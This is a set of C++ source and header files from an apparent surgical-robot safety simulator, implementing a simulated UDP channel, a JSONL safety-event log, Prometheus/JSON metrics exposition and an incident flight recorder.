  /// Advance one control tick.
  void tick() noexcept { ++now_; }

  /// Pop the next datagram whose delivery time has arrived (FIFO among
  /// deliverable ones); nullopt when none is ready.
  [[nodiscard]] std::optional<std::vector<std::uint8_t>> receive();

  [[nodiscard]] std::size_t in_flight() const noexcept { return queue_.size(); }
  [[nodiscard]] std::uint64_t datagrams_sent() const noexcept { return sent_; }
  [[nodiscard]] std::uint64_t datagrams_dropped() const noexcept { return dropped_; }
  [[nodiscard]] std::uint64_t datagrams_duplicated() const noexcept { return duplicated_; }
  [[nodiscard]] std::uint64_t datagrams_reordered() const noexcept { return reordered_; }

 private:
  struct InFlight {
    std::uint64_t deliver_at;
    std::vector<std::uint8_t> payload;
  };

  UdpChannelConfig config_;
  Pcg32 rng_;
  std::deque<InFlight> queue_;
  std::uint64_t now_ = 0;
  std::uint64_t sent_ = 0;
  std::uint64_t dropped_ = 0;
  std::uint64_t duplicated_ = 0;
  std::uint64_t reordered_ = 0;
};

}  // namespace rg
