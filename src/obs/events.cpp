#include "obs/events.hpp"

#include <atomic>
#include <chrono>
#include <cstdio>
#include <fstream>
#include <ostream>

#include "common/json.hpp"
#include "obs/metrics.hpp"

namespace rg::obs {

namespace {

std::atomic<EventLog*> g_log_events{nullptr};

std::uint64_t wall_ns() noexcept {
  return static_cast<std::uint64_t>(
      std::chrono::duration_cast<std::chrono::nanoseconds>(
          std::chrono::system_clock::now().time_since_epoch())
          .count());
}

void append_value(std::string& out, const EventField::Value& value) {
  if (const auto* s = std::get_if<std::string>(&value)) {
    EventLog::append_json_string(out, *s);
  } else if (const auto* d = std::get_if<double>(&value)) {
    char buf[40];
    std::snprintf(buf, sizeof(buf), "%.17g", *d);
    out += buf;
  } else if (const auto* i = std::get_if<std::int64_t>(&value)) {
    out += std::to_string(*i);
  } else if (const auto* u = std::get_if<std::uint64_t>(&value)) {
    out += std::to_string(*u);
  } else if (const auto* b = std::get_if<bool>(&value)) {
    out += *b ? "true" : "false";
  }
}

}  // namespace

void EventLog::append_json_string(std::string& out, std::string_view s) {
  out += '"';
  for (char c : s) {
    switch (c) {
      case '"': out += "\\\""; break;
      case '\\': out += "\\\\"; break;
      case '\n': out += "\\n"; break;
      case '\t': out += "\\t"; break;
      case '\r': out += "\\r"; break;
      default:
        if (static_cast<unsigned char>(c) < 0x20) {
          char buf[8];
          std::snprintf(buf, sizeof(buf), "\\u%04x", c);
          out += buf;
        } else {
          out += c;
        }
    }
  }
  out += '"';
}

namespace {

std::string render_prefix(std::string_view kind, std::optional<std::uint64_t> tick,
                          std::uint64_t seq) {
  std::string line;
  line.reserve(160);
  line += "{\"kind\": ";
  EventLog::append_json_string(line, kind);
  line += ", \"seq\": ";
  line += std::to_string(seq);
  line += ", \"tick\": ";
  line += tick ? std::to_string(*tick) : "null";
  line += ", \"wall_ns\": ";
  line += std::to_string(wall_ns());
  return line;
}

}  // namespace

std::string EventLog::render_fields(const std::vector<EventField>& fields) {
  std::string out;
  for (const EventField& f : fields) {
    out += ", ";
    append_json_string(out, f.key);
    out += ": ";
    append_value(out, f.value);
  }
  return out;
}

void EventLog::emit(std::string_view kind, std::optional<std::uint64_t> tick,
                    std::initializer_list<EventField> fields) {
  emit(kind, tick, std::vector<EventField>(fields));
}

void EventLog::emit(std::string_view kind, std::optional<std::uint64_t> tick,
                    const std::vector<EventField>& fields) {
  const MutexLock lock(mutex_);
  std::string line = render_prefix(kind, tick, seq_++);
  for (const EventField& f : fields) {
    line += ", ";
    append_json_string(line, f.key);
    line += ": ";
    append_value(line, f.value);
  }
  line += '}';
  append_line(std::move(line));
}

namespace {

/// Make a raw fields fragment safe to splice into a JSON object.  First
/// pass repairs the string layer (escapes raw control bytes, completes a
/// dangling backslash, closes an unterminated string); second pass checks
/// the result actually parses as object members.  Anything still broken
/// is demoted to one escaped `"raw"` string field.
std::string sanitize_fragment(std::string_view fragment) {
  std::string cleaned;
  cleaned.reserve(fragment.size() + 2);
  bool in_string = false;
  bool escaped = false;
  for (char c : fragment) {
    if (static_cast<unsigned char>(c) < 0x20) {
      if (in_string) {
        char buf[8];
        std::snprintf(buf, sizeof(buf), "\\u%04x", c);
        cleaned += buf;
      } else {
        // A space is whitespace wherever \n or \t would be, and keeps the
        // record on one line (the JSONL invariant).
        cleaned += ' ';
      }
      escaped = false;
      continue;
    }
    cleaned += c;
    if (in_string) {
      if (escaped) {
        escaped = false;
      } else if (c == '\\') {
        escaped = true;
      } else if (c == '"') {
        in_string = false;
      }
    } else if (c == '"') {
      in_string = true;
    }
  }
  if (escaped) cleaned += '\\';
  if (in_string) cleaned += '"';

  std::string probe = "{\"_\": 0";
  probe += cleaned;
  probe += '}';
  if (json::parse(probe).ok()) return cleaned;

  std::string out = ", \"raw\": ";
  EventLog::append_json_string(out, fragment);
  return out;
}

}  // namespace

void EventLog::emit_raw(std::string_view kind, std::optional<std::uint64_t> tick,
                        std::string_view raw_fields_fragment) {
  const std::string fragment = sanitize_fragment(raw_fields_fragment);
  const MutexLock lock(mutex_);
  std::string line = render_prefix(kind, tick, seq_++);
  line += fragment;
  line += '}';
  append_line(std::move(line));
}

void EventLog::append_line(std::string line) {
  if (sink_ != nullptr) sink_->on_event(line);
  lines_.push_back(std::move(line));
}

void EventLog::set_sink(EventSink* sink) {
  const MutexLock lock(mutex_);
  sink_ = sink;
}

std::size_t EventLog::size() const {
  const MutexLock lock(mutex_);
  return lines_.size();
}

std::vector<std::string> EventLog::lines() const {
  const MutexLock lock(mutex_);
  return lines_;
}

std::vector<std::string> EventLog::recent(std::size_t n) const {
  const MutexLock lock(mutex_);
  const std::size_t start = lines_.size() > n ? lines_.size() - n : 0;
  return std::vector<std::string>(lines_.begin() + static_cast<std::ptrdiff_t>(start),
                                  lines_.end());
}

void EventLog::write_jsonl(std::ostream& os) const {
  const MutexLock lock(mutex_);
  os << "{\"schema\": \"rg.events/1\", \"events\": " << lines_.size()
     << ", \"wall_ns\": " << wall_ns() << "}\n";
  for (const std::string& line : lines_) os << line << '\n';
}

bool EventLog::write_jsonl_file(const std::string& path) const {
  std::ofstream os(path);
  if (!os) {
    note_obs_write_error(path);
    return false;
  }
  write_jsonl(os);
  // flush() surfaces short writes / ENOSPC that the buffered stream
  // would otherwise swallow until destruction (where it's unreportable).
  os.flush();
  if (!os) {
    note_obs_write_error(path);
    return false;
  }
  return true;
}

void EventLog::clear() {
  const MutexLock lock(mutex_);
  lines_.clear();
  seq_ = 0;
}

void note_obs_write_error(std::string_view path) noexcept {
  try {
    auto& reg = Registry::global();
    static const MetricId id = reg.counter("rg.obs.write_errors");
    reg.add(id);
    if (EventLog* log = attached_log_events()) {
      log->emit("obs_write_error", std::nullopt, {{"path", path}});
    }
  } catch (...) {
    // Accounting a write error must never take the process down.
  }
}

void attach_log_events(EventLog* log) noexcept {
  g_log_events.store(log, std::memory_order_release);
}

EventLog* attached_log_events() noexcept {
  return g_log_events.load(std::memory_order_acquire);
}

}  // namespace rg::obs
