// Structured safety-event log: one JSON object per line, schema
// "rg.events/1" (documented in docs/observability.md).
//
// Every record carries the event kind, a sequence number, the simulation
// tick (null for events outside a sim run, e.g. bridged log lines), a
// wall-clock timestamp in nanoseconds, and free-form typed fields.  The
// sim emits state-machine transitions, detector alarms, mitigation
// actions, attack-wrapper injections, and flight-recorder dumps through
// this; RG_LOG(kWarn/kError) lines are bridged in when a log is attached
// (see attach_log_events / common/log.cpp).
//
// Thread-safe: emit() renders and appends the line under a mutex, so one
// EventLog can serve every worker of a campaign (records then interleave
// in wall order; per-job context fields keep them attributable).
#pragma once

#include <cstdint>
#include <initializer_list>
#include <iosfwd>
#include <optional>
#include <string>
#include <string_view>
#include <variant>
#include <vector>

#include "common/realtime.hpp"
#include "common/thread_safety.hpp"

namespace rg::obs {

/// One typed key/value pair of an event record.
struct EventField {
  using Value = std::variant<std::string, double, std::int64_t, std::uint64_t, bool>;

  std::string key;
  Value value;

  EventField(std::string_view k, std::string_view v) : key(k), value(std::string(v)) {}
  EventField(std::string_view k, const char* v) : key(k), value(std::string(v)) {}
  EventField(std::string_view k, double v) : key(k), value(v) {}
  EventField(std::string_view k, std::int64_t v) : key(k), value(v) {}
  EventField(std::string_view k, std::uint64_t v) : key(k), value(v) {}
  EventField(std::string_view k, int v) : key(k), value(static_cast<std::int64_t>(v)) {}
  EventField(std::string_view k, bool v) : key(k), value(v) {}
};

/// Receives every rendered event record as it is appended (under the
/// log's mutex — implementations must not call back into the log).  The
/// persist layer's JournalEventSink implements this to make safety
/// events durable in the crash journal (docs/persistence.md).
class EventSink {
 public:
  virtual ~EventSink() = default;
  virtual void on_event(std::string_view line) noexcept = 0;
};

class EventLog {
 public:
  EventLog() = default;
  EventLog(const EventLog&) = delete;
  EventLog& operator=(const EventLog&) = delete;

  /// Append one event.  `tick` is the simulation tick (nullopt renders as
  /// null).  Renders the JSONL record immediately.
  RG_THREAD(any) void emit(std::string_view kind, std::optional<std::uint64_t> tick,
                           std::initializer_list<EventField> fields);
  RG_THREAD(any) void emit(std::string_view kind, std::optional<std::uint64_t> tick,
                           const std::vector<EventField>& fields);

  /// Append a pre-rendered *fields fragment* (comma-prefixed, e.g.
  /// `, "frames": [...]`) — escape hatch for bulk payloads like the
  /// flight-recorder dump.  The fragment is sanitized before it is
  /// embedded: raw control bytes are escaped, an unterminated string is
  /// closed, and a fragment that still fails to parse as JSON members is
  /// demoted to a single escaped `"raw"` string field — so a record line
  /// is well-formed JSON no matter what the caller hands in (the /stats
  /// admin endpoint embeds recent records verbatim and depends on this).
  RG_THREAD(any) void emit_raw(std::string_view kind, std::optional<std::uint64_t> tick,
                               std::string_view raw_fields_fragment);

  [[nodiscard]] std::size_t size() const;
  [[nodiscard]] std::vector<std::string> lines() const;  ///< records, no header

  /// The most recent `n` records (fewer when the log is shorter), oldest
  /// first — the tail the admin /stats endpoint embeds.
  [[nodiscard]] RG_THREAD(any) std::vector<std::string> recent(std::size_t n) const;

  /// Header record ({"schema":"rg.events/1", ...}) followed by every event.
  void write_jsonl(std::ostream& os) const;
  [[nodiscard]] bool write_jsonl_file(const std::string& path) const;

  void clear();

  /// Stream every appended record to `sink` as well (nullptr detaches).
  /// The sink must outlive the attachment.
  void set_sink(EventSink* sink);

  /// JSON string escaping shared by the obs serializers.
  static void append_json_string(std::string& out, std::string_view s);

  /// Render fields as a comma-prefixed JSON-members fragment suitable for
  /// emit_raw (lets callers mix typed fields with a bulk raw payload).
  [[nodiscard]] static std::string render_fields(const std::vector<EventField>& fields);

 private:
  void append_line(std::string line) RG_REQUIRES(mutex_);

  mutable Mutex mutex_;
  std::vector<std::string> lines_ RG_GUARDED_BY(mutex_);
  std::uint64_t seq_ RG_GUARDED_BY(mutex_) = 0;
  EventSink* sink_ RG_GUARDED_BY(mutex_) = nullptr;
};

/// Attach/detach the process-wide event log that RG_LOG(kWarn/kError)
/// lines are bridged into (nullptr detaches).  The log must outlive the
/// attachment.
void attach_log_events(EventLog* log) noexcept;
[[nodiscard]] EventLog* attached_log_events() noexcept;

/// Record one failed observability write: bumps rg.obs.write_errors and
/// latches an `obs_write_error` safety event (with the target path) on
/// the attached event log, so a full disk or short write is visible in
/// the telemetry plane instead of vanishing with the artifact.  Called
/// by the JSONL/flight-recorder writers; tools should still propagate
/// the failed return to their exit status.
void note_obs_write_error(std::string_view path) noexcept;

}  // namespace rg::obs
