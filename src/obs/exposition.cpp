#include "obs/exposition.hpp"

#include <cstdio>
#include <map>
#include <ostream>

#include "common/json.hpp"

namespace rg::obs {

namespace {

void append_double(std::string& out, double v) {
  char buf[40];
  std::snprintf(buf, sizeof(buf), "%.17g", v);
  out += buf;
}

void append_u64(std::string& out, std::uint64_t v) { out += std::to_string(v); }

}  // namespace

std::string prometheus_name(std::string_view name) {
  std::string out;
  out.reserve(name.size() + 1);
  if (!name.empty() && name.front() >= '0' && name.front() <= '9') out += '_';
  for (const char c : name) {
    const bool legal = (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') ||
                       (c >= '0' && c <= '9') || c == '_' || c == ':';
    out += legal ? c : '_';
  }
  return out;
}

std::string to_prometheus(const MetricsSnapshot& snap) {
  std::string out;
  out.reserve(4096);
  for (const auto& c : snap.counters) {
    const std::string pname = prometheus_name(c.name);
    out += "# HELP " + pname + " " + c.name + "\n";
    out += "# TYPE " + pname + " counter\n";
    out += pname + " ";
    append_u64(out, c.value);
    out += '\n';
  }
  for (const auto& g : snap.gauges) {
    const std::string pname = prometheus_name(g.name);
    out += "# HELP " + pname + " " + g.name + "\n";
    out += "# TYPE " + pname + " gauge\n";
    out += pname + " ";
    append_double(out, g.value);
    out += '\n';
  }
  for (const auto& h : snap.histograms) {
    const std::string pname = prometheus_name(h.name);
    out += "# HELP " + pname + " " + h.name + " (log-linear histogram)\n";
    out += "# TYPE " + pname + " histogram\n";
    std::uint64_t cumulative = 0;
    for (std::size_t i = 0; i < HistogramData::kBucketCount; ++i) {
      const std::uint64_t n = h.data.buckets[i];
      if (n == 0) continue;  // cumulative series: empty buckets add nothing
      cumulative += n;
      const std::uint64_t upper =
          HistogramData::bucket_lower(i) + HistogramData::bucket_width(i) - 1;
      out += pname + "_bucket{le=\"";
      append_u64(out, upper);
      out += "\"} ";
      append_u64(out, cumulative);
      out += '\n';
    }
    out += pname + "_bucket{le=\"+Inf\"} ";
    append_u64(out, h.data.count);
    out += '\n';
    out += pname + "_sum ";
    append_u64(out, h.data.sum);
    out += '\n';
    out += pname + "_count ";
    append_u64(out, h.data.count);
    out += '\n';
  }
  return out;
}

void write_prometheus(const MetricsSnapshot& snap, std::ostream& os) {
  os << to_prometheus(snap);
}

std::string to_live_json(const MetricsSnapshot& snap, std::uint64_t captured_ns) {
  std::string out;
  out.reserve(4096);
  out += "{\"schema\": \"rg.metrics.live/1\", \"captured_ns\": ";
  append_u64(out, captured_ns);
  out += ", \"counters\": [";
  for (std::size_t i = 0; i < snap.counters.size(); ++i) {
    if (i != 0) out += ", ";
    out += "{\"name\": ";
    json::append_quoted(out, snap.counters[i].name);
    out += ", \"value\": ";
    append_u64(out, snap.counters[i].value);
    out += '}';
  }
  out += "], \"gauges\": [";
  for (std::size_t i = 0; i < snap.gauges.size(); ++i) {
    if (i != 0) out += ", ";
    out += "{\"name\": ";
    json::append_quoted(out, snap.gauges[i].name);
    out += ", \"value\": ";
    append_double(out, snap.gauges[i].value);
    out += '}';
  }
  out += "], \"histograms\": [";
  for (std::size_t i = 0; i < snap.histograms.size(); ++i) {
    const auto& h = snap.histograms[i];
    if (i != 0) out += ", ";
    out += "{\"name\": ";
    json::append_quoted(out, h.name);
    out += ", \"count\": ";
    append_u64(out, h.data.count);
    out += ", \"sum\": ";
    append_u64(out, h.data.sum);
    out += ", \"min\": ";
    append_u64(out, h.data.empty() ? 0 : h.data.min);
    out += ", \"max\": ";
    append_u64(out, h.data.max);
    out += ", \"mean\": ";
    append_double(out, h.data.mean());
    const HistogramData::Quantile p50 = h.data.quantile(50.0);
    const HistogramData::Quantile p90 = h.data.quantile(90.0);
    const HistogramData::Quantile p99 = h.data.quantile(99.0);
    out += ", \"p50\": ";
    append_double(out, p50.value);
    out += ", \"p90\": ";
    append_double(out, p90.value);
    out += ", \"p99\": ";
    append_double(out, p99.value);
    out += ", \"valid\": ";
    out += p50.valid ? "true" : "false";
    out += ", \"buckets\": [";
    bool first = true;
    for (std::size_t b = 0; b < HistogramData::kBucketCount; ++b) {
      if (h.data.buckets[b] == 0) continue;
      if (!first) out += ", ";
      first = false;
      out += '[';
      append_u64(out, b);
      out += ", ";
      append_u64(out, h.data.buckets[b]);
      out += ']';
    }
    out += "]}";
  }
  out += "]}";
  return out;
}

void write_live_json(const MetricsSnapshot& snap, std::ostream& os, std::uint64_t captured_ns) {
  os << to_live_json(snap, captured_ns);
}

namespace {

Error malformed(const std::string& what) {
  return Error(ErrorCode::kMalformedPacket, "rg.metrics.live: " + what);
}

}  // namespace

Result<LiveSnapshot> parse_live_json(std::string_view text) {
  Result<json::Value> parsed = json::parse(text);
  if (!parsed.ok()) return parsed.error();
  const json::Value& doc = parsed.value();
  if (!doc.is_object()) return malformed("document is not an object");
  const json::Value* schema = doc.find("schema");
  if (schema == nullptr || schema->as_string() != "rg.metrics.live/1") {
    return malformed("unexpected schema");
  }

  LiveSnapshot out;
  if (const json::Value* cap = doc.find("captured_ns")) out.captured_ns = cap->as_u64();

  if (const json::Value* counters = doc.find("counters")) {
    if (!counters->is_array()) return malformed("counters is not an array");
    for (const json::Value& entry : counters->as_array()) {
      const json::Value* name = entry.find("name");
      const json::Value* value = entry.find("value");
      if (name == nullptr || !name->is_string() || value == nullptr) {
        return malformed("bad counter entry");
      }
      out.metrics.counters.push_back({name->as_string(), value->as_u64()});
    }
  }
  if (const json::Value* gauges = doc.find("gauges")) {
    if (!gauges->is_array()) return malformed("gauges is not an array");
    for (const json::Value& entry : gauges->as_array()) {
      const json::Value* name = entry.find("name");
      const json::Value* value = entry.find("value");
      if (name == nullptr || !name->is_string() || value == nullptr) {
        return malformed("bad gauge entry");
      }
      out.metrics.gauges.push_back({name->as_string(), value->as_number()});
    }
  }
  if (const json::Value* hists = doc.find("histograms")) {
    if (!hists->is_array()) return malformed("histograms is not an array");
    for (const json::Value& entry : hists->as_array()) {
      const json::Value* name = entry.find("name");
      if (name == nullptr || !name->is_string()) return malformed("bad histogram entry");
      MetricsSnapshot::HistogramValue hv;
      hv.name = name->as_string();
      HistogramData& data = hv.data;
      if (const json::Value* v = entry.find("count")) data.count = v->as_u64();
      if (const json::Value* v = entry.find("sum")) data.sum = v->as_u64();
      if (const json::Value* v = entry.find("max")) data.max = v->as_u64();
      if (data.count > 0) {
        const json::Value* v = entry.find("min");
        data.min = v != nullptr ? v->as_u64() : 0;
      }
      if (const json::Value* buckets = entry.find("buckets")) {
        if (!buckets->is_array()) return malformed("histogram buckets is not an array");
        for (const json::Value& pair : buckets->as_array()) {
          const json::Array& p = pair.as_array();
          if (p.size() != 2) return malformed("bad bucket pair");
          const std::uint64_t index = p[0].as_u64();
          if (index >= HistogramData::kBucketCount) return malformed("bucket index out of range");
          data.buckets[static_cast<std::size_t>(index)] = p[1].as_u64();
        }
      }
      out.metrics.histograms.push_back(std::move(hv));
    }
  }
  return out;
}

SnapshotDelta SnapshotDelta::between(const MetricsSnapshot& earlier, const MetricsSnapshot& later,
                                     std::uint64_t interval_ns) {
  SnapshotDelta out;
  out.interval_ns = interval_ns;

  std::map<std::string_view, std::uint64_t> prev_counters;
  for (const auto& c : earlier.counters) prev_counters.emplace(c.name, c.value);
  out.counters.reserve(later.counters.size());
  for (const auto& c : later.counters) {
    const auto it = prev_counters.find(c.name);
    const std::uint64_t prev = it != prev_counters.end() ? it->second : 0;
    // A later value below the earlier one means the registry restarted
    // between polls; clamp to zero rather than inventing a negative rate.
    out.counters.push_back({c.name, c.value >= prev ? c.value - prev : 0});
  }

  out.gauges.reserve(later.gauges.size());
  for (const auto& g : later.gauges) out.gauges.push_back({g.name, g.value});

  std::map<std::string_view, const HistogramData*> prev_hists;
  for (const auto& h : earlier.histograms) prev_hists.emplace(h.name, &h.data);
  out.histograms.reserve(later.histograms.size());
  for (const auto& h : later.histograms) {
    HistogramDelta delta;
    delta.name = h.name;
    const auto it = prev_hists.find(h.name);
    if (it == prev_hists.end()) {
      delta.data = h.data;
    } else {
      const HistogramData& prev = *it->second;
      std::uint64_t derived_count = 0;
      std::uint64_t derived_sum = 0;
      for (std::size_t i = 0; i < HistogramData::kBucketCount; ++i) {
        const std::uint64_t now = h.data.buckets[i];
        const std::uint64_t was = prev.buckets[i];
        delta.data.buckets[i] = now >= was ? now - was : 0;
        derived_count += delta.data.buckets[i];
      }
      delta.data.count =
          h.data.count >= prev.count ? h.data.count - prev.count : derived_count;
      derived_sum = h.data.sum >= prev.sum ? h.data.sum - prev.sum : 0;
      delta.data.sum = derived_sum;
      // min/max are lifetime extrema, not interval extrema; carry the
      // later snapshot's values as the best available bound.
      delta.data.min = delta.data.count > 0 ? h.data.min : delta.data.min;
      delta.data.max = delta.data.count > 0 ? h.data.max : 0;
    }
    out.histograms.push_back(std::move(delta));
  }
  return out;
}

const SnapshotDelta::CounterDelta* SnapshotDelta::counter(std::string_view name) const noexcept {
  for (const auto& c : counters) {
    if (c.name == name) return &c;
  }
  return nullptr;
}

const HistogramData* SnapshotDelta::histogram(std::string_view name) const noexcept {
  for (const auto& h : histograms) {
    if (h.name == name) return &h.data;
  }
  return nullptr;
}

double SnapshotDelta::rate_per_sec(std::string_view counter_name) const noexcept {
  if (interval_ns == 0) return 0.0;
  const CounterDelta* c = counter(counter_name);
  if (c == nullptr) return 0.0;
  return static_cast<double>(c->delta) * 1e9 / static_cast<double>(interval_ns);
}

}  // namespace rg::obs
