// Live exposition of a MetricsSnapshot: Prometheus text format for
// scrapers, a versioned "rg.metrics.live/1" JSON document for tools that
// need the raw buckets back, and SnapshotDelta for rate computation
// between two polls.
//
// This is the read side of the telemetry plane (docs/admin.md): the admin
// server renders these from Registry::global().snapshot() on its own
// thread; nothing here is called from the RG_REALTIME tick path.
//
// Prometheus metric names may not contain '.', so dotted rg.* names are
// exposed with dots mapped to underscores ("rg.gw.rx_packets" →
// "rg_gw_rx_packets").  The HELP line carries the original dotted name,
// so the canonical name remains greppable in the scrape body.
#pragma once

#include <cstdint>
#include <iosfwd>
#include <string>
#include <string_view>
#include <utility>
#include <vector>

#include "common/error.hpp"
#include "obs/metrics.hpp"

namespace rg::obs {

/// Prometheus-legal rendering of a dotted metric name: characters outside
/// [a-zA-Z0-9_:] become '_' (a leading digit gains a '_' prefix).
[[nodiscard]] std::string prometheus_name(std::string_view name);

/// Render the snapshot in Prometheus text exposition format (version
/// 0.0.4): counters and gauges as single samples, histograms as
/// cumulative `_bucket{le="..."}` series (empty buckets elided) plus
/// `_sum` and `_count`.
void write_prometheus(const MetricsSnapshot& snap, std::ostream& os);
[[nodiscard]] std::string to_prometheus(const MetricsSnapshot& snap);

/// Render the snapshot as a "rg.metrics.live/1" JSON document.  Unlike
/// the exit-time "rg.metrics/1" dump this keeps the sparse histogram
/// buckets (`[[bucket_index, count], ...]`), so a reader can reconstruct
/// the full HistogramData and diff two polls bucket-wise.  `captured_ns`
/// is the monotonic capture timestamp readers use for rate intervals.
void write_live_json(const MetricsSnapshot& snap, std::ostream& os, std::uint64_t captured_ns);
[[nodiscard]] std::string to_live_json(const MetricsSnapshot& snap, std::uint64_t captured_ns);

/// A parsed "rg.metrics.live/1" document.
struct LiveSnapshot {
  MetricsSnapshot metrics;
  std::uint64_t captured_ns = 0;
};

/// Parse a document produced by write_live_json.  Rejects other schemas
/// and structurally malformed input with kMalformedPacket.
[[nodiscard]] Result<LiveSnapshot> parse_live_json(std::string_view text);

/// Difference between two snapshots of the same registry, for rate
/// computation.  Counters and histogram buckets subtract with a clamp to
/// zero, so a registry reset (or a restarted process) between polls reads
/// as "no progress", never as a negative rate.  Gauges are point-in-time
/// and carry the later snapshot's value.  Metrics present only in the
/// later snapshot contribute their full value; metrics that disappeared
/// are dropped.
struct SnapshotDelta {
  struct CounterDelta {
    std::string name;
    std::uint64_t delta = 0;
  };
  struct GaugeValue {
    std::string name;
    double value = 0.0;
  };
  struct HistogramDelta {
    std::string name;
    HistogramData data{};
  };

  std::vector<CounterDelta> counters;
  std::vector<GaugeValue> gauges;
  std::vector<HistogramDelta> histograms;
  std::uint64_t interval_ns = 0;

  [[nodiscard]] static SnapshotDelta between(const MetricsSnapshot& earlier,
                                             const MetricsSnapshot& later,
                                             std::uint64_t interval_ns = 0);

  [[nodiscard]] const CounterDelta* counter(std::string_view name) const noexcept;
  [[nodiscard]] const HistogramData* histogram(std::string_view name) const noexcept;

  /// Counter delta scaled to events per second over interval_ns (0.0 when
  /// the metric is absent or the interval is zero).
  [[nodiscard]] double rate_per_sec(std::string_view counter_name) const noexcept;
};

}  // namespace rg::obs
