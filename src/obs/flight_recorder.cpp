#include "obs/flight_recorder.hpp"

#include <cstdio>
#include <fstream>
#include <ostream>

#include "obs/events.hpp"

namespace rg::obs {

FlightRecorder::FlightRecorder(std::size_t capacity) : ring_(capacity) {}

void FlightRecorder::record(const FlightFrame& frame) {
  ring_.push(frame);
  ++recorded_;
}

void FlightRecorder::trigger(std::string_view reason, std::uint64_t tick) {
  ++triggers_;
  if (triggered_) return;
  triggered_ = true;
  reason_ = std::string(reason);
  trigger_tick_ = tick;
  dump_ = ring_.snapshot();
}

namespace {

void append_vec3(std::string& out, const char* key, const Vec3& v) {
  char buf[120];
  std::snprintf(buf, sizeof(buf), "\"%s\": [%.9g, %.9g, %.9g]", key, v[0], v[1], v[2]);
  out += buf;
}

void append_frame(std::string& out, const FlightFrame& f) {
  const TraceSample& s = f.sample;
  char buf[256];
  std::snprintf(buf, sizeof(buf), "{\"tick\": %llu, ",
                static_cast<unsigned long long>(s.tick));
  out += buf;
  append_vec3(out, "ee", s.ee_truth);
  out += ", ";
  append_vec3(out, "joint_pos", s.joint_pos);
  out += ", ";
  append_vec3(out, "motor_vel", s.motor_vel);
  out += ", ";
  append_vec3(out, "dac", s.dac);
  out += ", \"state\": ";
  EventLog::append_json_string(out, to_string(s.state));
  std::snprintf(buf, sizeof(buf),
                ", \"brakes\": %s, \"pred_ee_disp\": %.9g, \"screened\": %s, "
                "\"alarm\": %s, \"blocked\": %s",
                s.brakes ? "true" : "false", s.predicted_ee_disp,
                f.screened ? "true" : "false", f.alarm ? "true" : "false",
                f.blocked ? "true" : "false");
  out += buf;
  out += ", ";
  append_vec3(out, "det_motor_vel", f.motor_instant_vel);
  out += ", ";
  append_vec3(out, "det_motor_acc", f.motor_instant_acc);
  out += ", ";
  append_vec3(out, "det_joint_vel", f.joint_instant_vel);
  std::snprintf(buf, sizeof(buf),
                ", \"flags\": {\"motor_vel\": %s, \"motor_acc\": %s, \"joint_vel\": %s, "
                "\"ee_jump\": %s}}",
                f.motor_vel_flag ? "true" : "false", f.motor_acc_flag ? "true" : "false",
                f.joint_vel_flag ? "true" : "false", f.ee_jump_flag ? "true" : "false");
  out += buf;
}

}  // namespace

std::string FlightRecorder::frames_json() const {
  std::string out;
  out.reserve(dump_.size() * 320 + 2);
  out += '[';
  for (std::size_t i = 0; i < dump_.size(); ++i) {
    if (i) out += ", ";
    append_frame(out, dump_[i]);
  }
  out += ']';
  return out;
}

void FlightRecorder::write_json(std::ostream& os) const {
  std::string reason_json;
  EventLog::append_json_string(reason_json, reason_);
  os << "{\"schema\": \"rg.flight/1\", \"triggered\": " << (triggered_ ? "true" : "false")
     << ", \"reason\": " << reason_json << ", \"trigger_tick\": " << trigger_tick_
     << ", \"triggers\": " << triggers_ << ", \"capacity\": " << capacity()
     << ", \"frames\": " << frames_json() << "}\n";
}

bool FlightRecorder::write_json_file(const std::string& path) const {
  std::ofstream os(path);
  if (!os) {
    note_obs_write_error(path);
    return false;
  }
  write_json(os);
  os.flush();
  if (!os) {
    note_obs_write_error(path);
    return false;
  }
  return true;
}

void FlightRecorder::clear() {
  ring_.clear();
  dump_.clear();
  reason_.clear();
  trigger_tick_ = 0;
  triggers_ = 0;
  recorded_ = 0;
  triggered_ = false;
}

}  // namespace rg::obs
