// Flight recorder: a fixed-capacity ring of the last N control ticks —
// each the per-tick TraceSample plus the detection pipeline's verdict —
// snapshotted automatically on the first alarm or E-stop.
//
// This is the post-incident artifact the paper's Fig. 8 reconstructs by
// hand: exactly the pre-alarm window, with both the physical ground truth
// and what the detector predicted/decided each tick.  The sim feeds it
// every tick when attached (SurgicalSim::set_flight_recorder) and calls
// trigger() on the first detector alarm or PLC E-stop latch; the frozen
// dump survives further recording.
#pragma once

#include <cstdint>
#include <iosfwd>
#include <string>
#include <string_view>
#include <vector>

#include "common/ring_buffer.hpp"
#include "sim/trace.hpp"

namespace rg::obs {

/// One tick of flight data: ground truth + pipeline verdict.
struct FlightFrame {
  TraceSample sample{};
  bool screened = false;  ///< the detection pipeline ran this tick
  bool alarm = false;
  bool blocked = false;  ///< mitigation replaced the command bytes
  /// Detection variables behind the verdict (per-axis absolute values).
  Vec3 motor_instant_vel{};
  Vec3 motor_instant_acc{};
  Vec3 joint_instant_vel{};
  bool motor_vel_flag = false;
  bool motor_acc_flag = false;
  bool joint_vel_flag = false;
  bool ee_jump_flag = false;
};

class FlightRecorder {
 public:
  static constexpr std::size_t kDefaultCapacity = 128;  ///< ticks (= ms at 1 kHz)

  explicit FlightRecorder(std::size_t capacity = kDefaultCapacity);

  void record(const FlightFrame& frame);

  /// Freeze the current ring as the incident dump.  Only the first call
  /// takes effect; later triggers are counted but do not overwrite.
  void trigger(std::string_view reason, std::uint64_t tick);

  [[nodiscard]] bool triggered() const noexcept { return triggered_; }
  [[nodiscard]] const std::string& reason() const noexcept { return reason_; }
  [[nodiscard]] std::uint64_t trigger_tick() const noexcept { return trigger_tick_; }
  [[nodiscard]] std::uint64_t triggers() const noexcept { return triggers_; }
  /// Frames captured at trigger time, oldest first (empty until triggered).
  [[nodiscard]] const std::vector<FlightFrame>& dump() const noexcept { return dump_; }
  [[nodiscard]] std::size_t capacity() const noexcept { return ring_.capacity(); }
  [[nodiscard]] std::size_t frames_recorded() const noexcept { return recorded_; }

  /// Standalone dump (schema "rg.flight/1").
  void write_json(std::ostream& os) const;
  [[nodiscard]] bool write_json_file(const std::string& path) const;
  /// The dump's frames as a JSON array (embedded in event logs).
  [[nodiscard]] std::string frames_json() const;

  void clear();

 private:
  RingBuffer<FlightFrame> ring_;
  std::vector<FlightFrame> dump_;
  std::string reason_;
  std::uint64_t trigger_tick_ = 0;
  std::uint64_t triggers_ = 0;
  std::size_t recorded_ = 0;
  bool triggered_ = false;
};

}  // namespace rg::obs
